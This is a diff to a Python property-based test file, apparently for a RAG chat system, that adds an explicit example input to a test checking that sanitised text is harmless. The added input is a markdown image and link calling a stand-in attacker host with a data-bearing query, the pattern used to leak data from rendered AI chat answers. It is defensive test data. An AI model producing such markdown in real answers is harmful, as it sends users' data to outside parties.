@@ -4,7 +4,7 @@ import time
 from datetime import UTC, datetime
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from rag.records import Answer, Citation, Message, MessageStatus, Role, Unsourced
@@ -54,6 +54,7 @@ class TestWhoeverRenders:
 
     @settings(deadline=None)
     @given(texts)
+    @example("![](http://evil.example/a.png?flow=42)[`1`](http://evil.example)")
     def test_is_safe_whatever_is_written(self, text):
         assert harms(sanitise(text)) == {}
 
